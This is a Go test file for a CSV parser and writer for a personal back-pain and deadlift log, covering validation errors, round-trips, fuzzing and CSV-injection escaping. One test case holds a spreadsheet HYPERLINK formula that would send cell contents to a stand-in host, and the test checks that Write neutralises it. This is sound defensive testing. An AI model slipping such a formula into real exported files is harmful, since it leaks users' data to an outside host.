package painlog

import (
	"math/rand/v2"
	"reflect"
	"strings"
	"testing"
)

const good = Header + "\n" +
	"2026-11-28,6,lower_back;leg,yes,yes,140,5,\"sharp on the last rep, then \"\"stiff\"\"\"\n" +
	"2026-11-29,4,lower_back,no,no,,,walked 20 minutes\n" +
	"2026-11-30,0,,no,no,,,\n"

func TestParseGood(t *testing.T) {
	es, errs := Parse(good)
	if errs != nil {
		t.Fatal(errs)
	}
	want := []Entry{
		{Date: day(27), Pain: 6, Where: LowerBack | Leg, Trained: true, Deadlift: true, Weight: "140", Reps: 5, Note: `sharp on the last rep, then "stiff"`},
		{Date: day(28), Pain: 4, Where: LowerBack, Note: "walked 20 minutes"},
		{Date: day(29)},
	}
	if !reflect.DeepEqual(es, want) {
		t.Fatalf("got  %+v\nwant %+v", es, want)
	}
	if out := Write(es); out != good {
		t.Errorf("Write:\n%s\nwant\n%s", out, good)
	}
}

// TestParseLenient: what Parse accepts beyond what Write makes, and the
// file Write makes of it.
func TestParseLenient(t *testing.T) {
	in := "\xef\xbb\xbf" + Header + "\r\n" +
		"2026-11-30,0,,,,,,\r\n" +
		"\r\n" +
		"\"2026-11-28\", 07 ,leg;buttock,,yes,\"102.5\",05,  spaces around  \r\n"
	want := Header + "\n" +
		"2026-11-28,7,buttock;leg,yes,yes,102.5,5,spaces around\n" +
		"2026-11-30,0,,no,no,,,\n"
	es, errs := Parse(in)
	if errs != nil {
		t.Fatal(errs)
	}
	if out := Write(es); out != want {
		t.Errorf("got\n%s\nwant\n%s", out, want)
	}
}

func row(s string) string { return Header + "\n2026-11-01,3,,no,no,,,ok\n" + s + "\n" }

var parseErrorCases = []struct {
	in   string
	want []string // the errors, in order
}{
	{"", []string{`row 1: the file is empty`}},
	{"date,pain\n", []string{`row 1: the first row must be the header`}},
	{row("2026-11-31,3,,no,no,,,"), []string{`row 3: date: "2026-11-31" is not a date written YYYY-MM-DD`}},
	{row("1.11.2026,3,,no,no,,,"), []string{`row 3: date: "1.11.2026" is not a date`}},
	{row("2026-11-02,11,,no,no,,,"), []string{`row 3: pain: "11" is not a whole number from 0 to 10`}},
	{row("2026-11-02,-1,,no,no,,,"), []string{`row 3: pain: "-1" is not a whole number`}},
	{row("2026-11-02,,,no,no,,,"), []string{`row 3: pain: "" is not a whole number`}},
	{row("2026-11-02,3,back,no,no,,,"), []string{`row 3: where: "back" is not one of lower_back, buttock, leg`}},
	{row("2026-11-02,3,leg;leg,no,no,,,"), []string{`row 3: where: "leg" is given twice`}},
	{row("2026-11-02,3,,y,no,,,"), []string{`row 3: trained: "y" is not yes or no`}},
	{row("2026-11-02,3,,no,yes,,,"), []string{`row 3: deadlift: is yes but trained is no`}},
	{row("2026-11-02,3,,yes,no,100,,"), []string{`row 3: weight: is for a deadlift day, but deadlift is no`}},
	{row("2026-11-02,3,,yes,yes,0,,"), []string{`row 3: weight: "0" is not a number above 0`}},
	{row("2026-11-02,3,,yes,yes,1000.5,,"), []string{`row 3: weight: "1000.5" is not a number`}},
	{row("2026-11-02,3,,yes,yes,100.125,,"), []string{`row 3: weight: "100.125" is not a number`}},
	{row("2026-11-02,3,,yes,yes,100kg,,"), []string{`row 3: weight: "100kg" is not a number`}},
	{row("2026-11-02,3,,yes,yes,,0,"), []string{`row 3: reps: "0" is not a whole number from 1 to 100`}},
	{row("2026-11-02,3,,yes,no,,5,"), []string{`row 3: reps: is for a deadlift day, but deadlift is no`}},
	{row("2026-11-02,3,,no,no,,,\"two\nlines\""), []string{`row 3: note: has a line break`}},
	{row("2026-11-02,3,,no,no,,,bad \xff byte"), []string{`row 3: note: is not valid UTF-8 text`}},
	{row("2026-11-02,3,,no,no,,," + strings.Repeat("é", MaxNote+1)), []string{`row 3: note: has 201 characters, more than 200`}},
	{row("2026-11-02,3,,no,no,,"), []string{`row 3: has 7 fields, want 8`}},
	{row("2026-11-02,3,,no,no,,,,"), []string{`row 3: has 9 fields, want 8`}},
	{row("2026-11-02,3,,no,no,,,say \"hi\""), []string{`row 3: a quote inside a field`}},
	{row("2026-11-02,3,,no,no,,,\"hi\" there"), []string{`row 3: a quoted field is followed by text`}},
	{row("2026-11-02,3,,no,no,,,\"open"), []string{`row 3: a quoted field has no closing quote`}},
	{row("2026-11-01,4,,no,no,,,"), []string{`row 3: date: 2026-11-01 is already on row 2: one entry a day`}},
	// Every error of a row, and of every row.
	{row("2026-13-01,x,,no,no,,,\n2026-11-03,5,hip,maybe,no,,,"), []string{
		`row 3: date:`, `row 3: pain:`, `row 4: where: "hip"`, `row 4: trained: "maybe"`}},
	// Row numbers are lines: blank lines and a quoted line break count.
	{Header + "\n\n2026-11-02,3,,no,no,,,\"a\nb\"\n2026-11-03,x,,no,no,,,\n", []string{`row 3: note: has a line break`, `row 5: pain:`}},
}

// TestParseErrors: each bad row is reported with its row number, its
// field and what is wrong, and no entry is returned.
func TestParseErrors(t *testing.T) {
	for _, c := range parseErrorCases {
		es, errs := Parse(c.in)
		if es != nil {
			t.Errorf("%q: entries %v with errors", c.in, es)
		}
		var got []string
		for _, e := range errs {
			got = append(got, e.Error())
		}
		ok := len(got) == len(c.want)
		for i := 0; ok && i < len(got); i++ {
			ok = strings.HasPrefix(got[i], c.want[i])
		}
		if !ok {
			t.Errorf("%q:\n got %q\nwant %q", c.in, got, c.want)
		}
	}
}

// TestWriteParse: any valid log written and read back is the same log.
func TestWriteParse(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 15))
	notes := []string{"", "ok", "a, b", `"quoted"`, "é ünïcode ✓", " ", "=1+2", "-", "+1", "@x", "'", "''", "'=1", "'x", "=a,\"b\""}
	for range 2000 {
		var es []Entry
		for _, e := range randomLog(r) {
			e.Where = Where(r.IntN(8))
			if e.Deadlift && r.IntN(2) == 0 {
				e.Weight = []string{"60", "102.5", "1000", "0.25"}[r.IntN(4)]
				e.Reps = 1 + r.IntN(MaxReps)
			}
			e.Note = strings.TrimSpace(notes[r.IntN(len(notes))])
			es = append(es, e)
		}
		text := Write(es)
		back, errs := Parse(text)
		if errs != nil || !reflect.DeepEqual(back, es) && len(es) > 0 {
			t.Fatalf("%q: %v\n got %+v\nwant %+v", text, errs, back, es)
		}
		for _, e := range es {
			if _, errs := Check(e.Strings()); errs != nil {
				t.Fatalf("%+v: %v", e, errs)
			}
		}
	}
}

// TestWriteFormulas: a note a spreadsheet would run as a formula (it
// starts with =, +, - or @) is written with an apostrophe in front, as
// OWASP's advice on CSV injection says; a note that starts with an
// apostrophe gets one more; and each reads back as the same note. A first
// apostrophe that Write cannot have added is kept.
func TestWriteFormulas(t *testing.T) {
	for _, c := range []struct{ note, cell string }{
		{"=1+2", "'=1+2"},
		{"+1", "'+1"},
		{"-1 after squats", "'-1 after squats"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{`=HYPERLINK("http://x.example/?q="&A1,"see")`, `"'=HYPERLINK(""http://x.example/?q=""&A1,""see"")"`},
		{"'", "''"},
		{"''", "'''"},
		{"'x", "''x"},
		{"'=1", "''=1"},
		{"a=1", "a=1"},
		{"x-y", "x-y"},
		{"", ""},
	} {
		e := Entry{Date: 20000, Pain: 1, Note: c.note}
		text := Write([]Entry{e})
		want := Header + "\n" + e.Date.String() + ",1,,no,no,,," + c.cell + "\n"
		if text != want {
			t.Errorf("note %q written\n%q, want\n%q", c.note, text, want)
		}
		back, errs := Parse(text)
		if errs != nil || len(back) != 1 || back[0] != e {
			t.Errorf("note %q: written %q reads back as %+v %v", c.note, c.cell, back, errs)
		}
	}
	for cell, note := range map[string]string{"'x": "'x", "'": "'", "' =1": "' =1", "'é": "'é", "''x": "'x", "'-": "-", "'@": "@", "'+": "+", "'=": "="} {
		back, errs := Parse(Header + "\n2024-10-05,1,,no,no,,," + cell + "\n")
		if errs != nil || len(back) != 1 || back[0].Note != note {
			t.Errorf("the cell %q reads as %+v %v, want the note %q", cell, back, errs, note)
		}
	}
}

// FuzzParse: Parse never panics; what it accepts, Write writes as a file
// that reads back to the same entries and writes again the same (a file
// as Write makes it reads back unchanged); what it refuses comes with
// row errors and no entries.
func FuzzParse(f *testing.F) {
	f.Add(good)
	f.Add(Header + "\n")
	f.Add("\xef\xbb\xbf" + Header + "\r\n2026-11-30,0,,,,,,\r\n")
	f.Add(Header + "\n2026-02-29,3,,no,no,,,\n")
	f.Add(Header + "\n2026-11-02,3,leg;leg,no,yes,1000.5,0,\"a\"b\n")
	f.Add(Header + "\n2026-11-02,3,,no,no,,,'=1+2\n2026-11-03,3,,no,no,,,''x\n2026-11-04,3,,no,no,,,'x\n")
	f.Add(Header + "\n2026-11-02,3,,no,no,,,\"'@A1,'-2\"\n2026-11-03,3,,no,no,,,=1\n2026-11-04,3,,no,no,,,'\n")
	f.Fuzz(func(t *testing.T, in string) {
		es, errs := Parse(in)
		if errs != nil {
			if es != nil {
				t.Fatalf("entries with errors")
			}
			for _, e := range errs {
				if e.Row < 1 || e.Msg == "" {
					t.Fatalf("error without a row or a message: %+v", e)
				}
			}
			return
		}
		out := Write(es)
		back, errs := Parse(out)
		if errs != nil || len(back) != len(es) || len(es) > 0 && !reflect.DeepEqual(back, es) {
			t.Fatalf("%q wrote %q, which reads back as %v %v", in, out, back, errs)
		}
		if again := Write(back); again != out {
			t.Fatalf("%q: wrote %q, then %q", in, out, again)
		}
		if strings.Count(out, "\n") != len(es)+1 {
			t.Fatalf("%q: %d entries in %q", in, len(es), out)
		}
	})
}
